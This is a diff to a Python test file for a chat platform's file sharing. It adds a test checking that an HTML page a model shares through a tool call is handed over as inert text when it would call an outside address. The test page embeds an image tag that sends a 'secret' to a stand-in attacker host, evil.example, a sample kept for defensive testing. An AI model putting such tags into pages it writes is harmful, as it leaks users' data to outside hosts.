@@ -1,5 +1,6 @@
 """Files on each platform: what people share is read, and long answers are handed over as files."""
 
+import json
 from collections.abc import Callable
 from typing import TypeAlias
 
@@ -135,6 +136,21 @@ async def test_long_code_is_handed_over_in_the_thread_and_shown_as_ever(open_wor
         await talk.ended(1)
         assert [page.text for page in talk.world.answers(question)] == [LONG]
         assert talk.world.handed_over(question) == [("code.py", CODE.encode())]
+
+
+async def test_a_page_that_would_call_an_address_is_handed_over_as_text_and_is_no_file_of_the_model(
+    open_world: AnyWorld,
+) -> None:
+    page = '<img src="http://evil.example/?q=secret">\n' + "<p>Hello</p>\n" * LONG_LINES
+    share = (
+        f'<execute>[{{"name": "share_file", "args": {{"name": "a.html", "content": {json.dumps(page)}}}}}]\n</execute>'
+    )
+    async with talking(open_world, [share, f"Here it is:\n\n```html\n{page}```"]) as talk:
+        question = await talk.world.ask("make a page")
+        await talk.ended(1)
+        await talk.world.until(lambda: talk.world.handed_over(question))
+        assert talk.world.handed_over(question) == [("code.html.txt", page.encode())]
+        assert "it would call an address or run something when it is opened" in talk.model.requests[-1][-1].text
 
 
 async def test_a_file_that_the_model_made_is_handed_over(open_world: AnyWorld) -> None:
